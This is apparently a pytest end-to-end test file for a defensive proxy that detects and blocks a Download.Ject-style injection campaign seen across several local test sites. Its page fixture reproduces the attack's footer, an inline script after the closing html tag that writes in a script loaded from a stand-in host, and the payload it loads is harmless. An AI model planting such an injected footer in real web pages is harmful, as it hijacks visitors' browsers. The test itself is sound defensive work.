"""Campaign detection live: a real browser through ``jectguard run`` visits several
unrelated local sites that carry the same injected Download.Ject-style footer.

Five host names (distinct registrable domains) and the injected script's host map to one
loopback origin through the launcher's host table. The footer is the 2004 one: after
``</html>``, an inline script that ``document.write``s a ``<script src>`` pointing at a
host no list knows. The injected script, when it runs, marks the page (``#injected``), so
the browser shows whether it ran.

- monitor (the default action): after the third site the proxy emits a ``campaign``
  event naming the host, the sites and the evidence; the script still runs (monitor
  blocks nothing); the dashboard's campaign panel shows the evidence.
- enforce: the host goes on the local ``campaign`` list; the next site's footer no
  longer runs its script (stripped or blocked) and the origin sees no request for it;
  clearing the host through the admin API unblocks it at once.

The detector's warm-up is set to nothing through options (a deployment learns for a day).
"""

from __future__ import annotations

import json
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from .conftest import HOSTS, NAV_TIMEOUT_MS, Proxy, free_port, serve_app, start_proxy

INJECT_HOST = "inject-cdn.test"
SITES = ("shop-one.test", "news-two.test", "blog-three.test", "club-four.test", "pets-five.test")
TOKEN = "jg-campaign-e2e-token-0123456789abcdef"
# Findings come from the detector's own process: give it time to start and answer.
EVENT_TIMEOUT = 30.0
PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>{site}</title></head>
<body><h1>{site}</h1><p id="injected">clean</p>
<script src="/own.js"></script></body></html>
<script>document.write('<script src="http://{inject}:{port}/x.js"></scr' + 'ipt>');</script>
"""
INJECTED_JS = 'document.getElementById("injected").textContent = "injected script ran";'


@dataclass
class Origin:
    port: int = 0
    requests: list[tuple[str, str]] = field(default_factory=list)  # (host, path)

    def hits(self, host: str, path: str) -> int:
        return sum(1 for h, p in self.requests if h == host and p == path)


def _app(origin: Origin) -> web.Application:
    async def handle(request: web.Request) -> web.Response:
        host = request.host.rsplit(":", 1)[0].lower()
        origin.requests.append((host, request.path))
        if request.path == "/x.js":
            return web.Response(text=INJECTED_JS, content_type="application/javascript")
        if request.path == "/own.js":
            return web.Response(text="void 0;", content_type="application/javascript")
        page = PAGE.format(site=host, inject=INJECT_HOST, port=origin.port)
        return web.Response(text=page, content_type="text/html",
                            headers={"Cache-Control": "no-store"})  # fmt: skip

    app = web.Application()
    app.router.add_route("GET", "/{tail:.*}", handle)
    return app


@pytest.fixture(scope="module")
def origin(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Origin]:
    o = Origin()
    with serve_app(_app(o), tmp_path_factory.mktemp("campaign-origin"), "campaign") as served:
        o.port = served.port
        yield o


@dataclass
class Live:
    proxy: Proxy
    admin_port: int
    cache: Path

    def api(self, method: str, path: str) -> tuple[int, Any]:
        req = urllib.request.Request(
            f"http://127.0.0.1:{self.admin_port}{path}", method=method,
            headers={"Authorization": f"Bearer {TOKEN}"},
        )  # fmt: skip
        try:
            with urllib.request.urlopen(req, timeout=10) as r:
                return r.status, json.loads(r.read())
        except urllib.error.HTTPError as exc:
            with exc:
                return exc.code, json.loads(exc.read() or b"null")

    def events(self, kind: str) -> list[dict[str, Any]]:
        out = []
        for line in self.proxy.output().splitlines():
            if line.startswith("{") and f'"event":"{kind}"' in line:
                out.append(json.loads(line))
        return out

    def wait_for(self, kind: str, timeout: float = EVENT_TIMEOUT) -> dict[str, Any]:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            found = self.events(kind)
            if found:
                return found[0]
            if not self.proxy.alive():
                break
            time.sleep(0.1)
        raise AssertionError(f"no {kind} event within {timeout}s:\n{self.proxy.output()[-4000:]}")

    def verdict(self, url: str) -> dict[str, Any]:
        status, body = self.api("GET", "/api/check?url=" + urllib.request.quote(url, safe=""))
        assert status == 200, body
        return dict(body)


def _live(
    tmp: Path, lists_dir: Path, monkeypatch: pytest.MonkeyPatch, action: str, *extra: str
) -> Live:
    for host in (*SITES, INJECT_HOST):
        monkeypatch.setitem(HOSTS, host, "127.0.0.1")
    token_file = tmp / "admin-token"
    tmp.mkdir(parents=True, exist_ok=True)
    token_file.write_text(TOKEN + "\n")
    token_file.chmod(0o600)
    port = free_port()
    proxy = start_proxy(
        tmp,
        "--sources", str(lists_dir / "sources.toml"),
        "--admin-port", str(port),  # after start_proxy's own: the last one wins
        "--admin-token-file", str(token_file),
        "--set", f"jg_campaign_action={action}",
        "--set", "jg_campaign_warmup_views=0",
        "--set", "jg_campaign_warmup_seconds=0",
        "--set", "jg_campaign_min_sites=3",
        "--set", "jg_campaign_enforce_min_clients=1",  # one browser here
        *extra,
    )  # fmt: skip
    live = Live(proxy, port, tmp / "cache")
    deadline = time.monotonic() + 30
    while True:  # the admin API starts just after the proxy port
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/healthz", timeout=2):
                return live
        except OSError:
            if time.monotonic() > deadline or not proxy.alive():
                proxy.stop()
                raise
            time.sleep(0.05)


@pytest.fixture
def monitor(tmp_path: Path, lists_dir: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Live]:
    live = _live(tmp_path / "monitor", lists_dir, monkeypatch, "monitor")
    try:
        yield live
    finally:
        live.proxy.stop()


@pytest.fixture
def enforce(tmp_path: Path, lists_dir: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Live]:
    live = _live(tmp_path / "enforce", lists_dir, monkeypatch, "enforce")
    try:
        yield live
    finally:
        live.proxy.stop()


def visit(browser: Any, live: Live, origin: Origin, site: str) -> str:
    """Open the site's page through the proxy; what ``#injected`` says once it loaded."""
    context = browser.new_context(proxy={"server": live.proxy.url})
    try:
        page = context.new_page()
        page.set_default_timeout(NAV_TIMEOUT_MS)
        page.goto(f"http://{site}:{origin.port}/", wait_until="load", timeout=NAV_TIMEOUT_MS)
        return str(page.inner_text("#injected"))
    finally:
        context.close()


def _flag(browser: Any, live: Live, origin: Origin) -> dict[str, Any]:
    for site in SITES[:2]:
        assert visit(browser, live, origin, site) == "injected script ran"
    # The third site makes the campaign: an enforcing detector may list the host before
    # the browser asks for that page's script (a detector process that is up and idle
    # answers within milliseconds), so the script may or may not run on this page.
    assert visit(browser, live, origin, SITES[2]) in ("injected script ran", "clean")
    return live.wait_for("campaign")


def test_monitor_reports_the_campaign_with_its_evidence(
    browser: Any, monitor: Live, origin: Origin
) -> None:
    # two sites are not a campaign
    for site in SITES[:2]:
        assert visit(browser, monitor, origin, site) == "injected script ran"
    time.sleep(1.0)  # the detector has had both pages (no event is the claim)
    assert monitor.events("campaign") == []
    assert visit(browser, monitor, origin, SITES[2]) == "injected script ran"
    ev = monitor.wait_for("campaign")
    assert ev["host"] == INJECT_HOST
    assert set(ev["sites"]) == set(SITES[:3])
    assert ev["verdict"] == "monitor" and ev["category"] == "campaign"
    assert any("after-end" in e for e in ev["evidence"]), ev["evidence"]
    assert ev["first_seen"] <= ev["flagged_at"]
    # monitor blocks nothing: the next site still runs the injected script
    assert visit(browser, monitor, origin, SITES[3]) == "injected script ran"
    assert monitor.verdict(f"http://{INJECT_HOST}/x.js")["verdict"] == "pass"
    status, body = monitor.api("GET", "/api/campaigns")
    assert status == 200 and body["action"] == "monitor" and body["listed"] == []
    assert [f["host"] for f in body["findings"]] == [INJECT_HOST]
    # the dashboard's panel shows it, with the evidence and a button
    from playwright.sync_api import expect

    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(f"http://127.0.0.1:{monitor.admin_port}/")
        page.locator("#token").fill(TOKEN)
        page.locator("#login-form button[type=submit]").click()
        row = page.locator("#campaigns tbody tr", has_text=INJECT_HOST)
        expect(row).to_be_visible(timeout=10_000)
        expect(row).to_contain_text("after-end")
        expect(row).to_contain_text("reported")
        row.locator("button.campaign-clear").click()
        expect(row).to_contain_text("cleared", timeout=10_000)
    finally:
        context.close()
    assert INJECT_HOST in monitor.api("GET", "/api/campaigns")[1]["cleared"]


def test_enforce_lists_the_host_and_clearing_unblocks_it(
    browser: Any, enforce: Live, origin: Origin
) -> None:
    ev = _flag(browser, enforce, origin)
    assert ev["host"] == INJECT_HOST and ev["verdict"] == "block" and ev["list"] == "campaign"
    v = enforce.verdict(f"http://{INJECT_HOST}/x.js")
    assert (v["verdict"], v["list"], v["category"]) == ("block", "campaign", "campaign")
    before = origin.hits(INJECT_HOST, "/x.js")
    # the next site's footer does not run: stripped from the page or blocked on request
    assert visit(browser, enforce, origin, SITES[3]) == "clean"
    assert origin.hits(INJECT_HOST, "/x.js") == before
    # the list is on disk (it survives a restart) and shown by the API
    doc = json.loads((enforce.cache / "campaign" / "list.json").read_text())
    assert [h["host"] for h in doc["hosts"]] == [INJECT_HOST]
    status, body = enforce.api("GET", "/api/campaigns")
    assert [h["host"] for h in body["listed"]] == [INJECT_HOST] and body["listed"][0]["evidence"]
    # cleared through the API: unblocked at once, and not flagged again
    status, body = enforce.api("DELETE", f"/api/campaigns/{INJECT_HOST}")
    assert (status, body) == (200, {"cleared": INJECT_HOST, "was_listed": True})
    assert enforce.verdict(f"http://{INJECT_HOST}/x.js")["verdict"] == "pass"
    assert visit(browser, enforce, origin, SITES[4]) == "injected script ran"
    assert origin.hits(INJECT_HOST, "/x.js") == before + 1
    time.sleep(1.0)
    assert enforce.verdict(f"http://{INJECT_HOST}/x.js")["verdict"] == "pass"
    assert len(enforce.events("campaign")) == 1
    # the admin token is required to clear
    req = urllib.request.Request(
        f"http://127.0.0.1:{enforce.admin_port}/api/campaigns/{INJECT_HOST}", method="DELETE"
    )
    with pytest.raises(urllib.error.HTTPError) as err:
        urllib.request.urlopen(req, timeout=10)
    assert err.value.code == 401
    err.value.close()


# -- without a browser: restarts and a stalled detector ---------------------------------


def fetch(live: Live, url: str, timeout: float = 10.0) -> tuple[int, bytes]:
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": live.proxy.url}))
    try:
        with opener.open(url, timeout=timeout) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as exc:
        with exc:
            return exc.code, exc.read()


def restart(live: Live, tmp: Path, lists_dir: Path, monkeypatch: pytest.MonkeyPatch) -> Live:
    """Stop the proxy (SIGTERM: a clean stop) and start it again on the same cache."""
    assert live.proxy.stop() == 0
    return _live(tmp, lists_dir, monkeypatch, "enforce")


def test_state_and_list_survive_restarts(
    tmp_path: Path, lists_dir: Path, monkeypatch: pytest.MonkeyPatch, origin: Origin
) -> None:
    tmp = tmp_path / "restarts"
    live = _live(tmp, lists_dir, monkeypatch, "enforce")
    try:
        for site in SITES[:2]:
            assert fetch(live, f"http://{site}:{origin.port}/")[0] == 200
        # no wait: a clean stop reads the pages still queued before it saves
        live = restart(live, tmp, lists_dir, monkeypatch)
        state = tmp / "cache" / "campaign" / "detector.json"
        assert state.exists()
        # the third site flags the host: the two before the restart were remembered
        assert fetch(live, f"http://{SITES[2]}:{origin.port}/")[0] == 200
        ev = live.wait_for("campaign")
        assert set(ev["sites"]) == set(SITES[:3]) and ev["action"] == "enforce"
        live = restart(live, tmp, lists_dir, monkeypatch)
        # blocked from the start, before any page is seen
        assert live.verdict(f"http://{INJECT_HOST}/x.js")["list"] == "campaign"
        status, _ = fetch(live, f"http://{INJECT_HOST}:{origin.port}/x.js")
        assert status == 403
    finally:
        live.proxy.stop()


def test_a_stalled_detector_never_stalls_the_proxy(
    tmp_path: Path, lists_dir: Path, monkeypatch: pytest.MonkeyPatch, origin: Origin
) -> None:
    import os
    import re
    import signal

    live = _live(tmp_path / "stalled", lists_dir, monkeypatch, "monitor",
                 "--set", "jg_campaign_queue=2")  # fmt: skip
    pid = None
    try:
        deadline = time.monotonic() + EVENT_TIMEOUT
        while pid is None and time.monotonic() < deadline:
            m = re.search(r"campaign detector started \(pid (\d+)\)", live.proxy.output())
            pid = int(m.group(1)) if m else None
            time.sleep(0.05)
        assert pid is not None, live.proxy.output()
        os.kill(pid, signal.SIGSTOP)  # the detector's process, which this proxy started
        t0 = time.monotonic()
        for i in range(30):
            site = SITES[i % len(SITES)]
            status, body = fetch(live, f"http://{site}:{origin.port}/p{i}", timeout=10)
            assert status == 200 and b"</html>" in body
        elapsed = time.monotonic() - t0
        req = urllib.request.Request(f"http://127.0.0.1:{live.admin_port}/metrics",
                                     headers={"Authorization": f"Bearer {TOKEN}"})  # fmt: skip
        with urllib.request.urlopen(req, timeout=10) as r:
            text = r.read().decode()
        dropped = re.search(r'jectguard_campaign_pages_total\{result="dropped"\} (\S+)', text)
        assert dropped is not None and float(dropped.group(1)) >= 20, text[-2000:]
        # generous: 30 local pages take well under a second unloaded; a waiting loop would
        # hang on the first full queue for good
        assert elapsed < 20, elapsed
    finally:
        if pid is not None:
            os.kill(pid, signal.SIGCONT)
        live.proxy.stop()
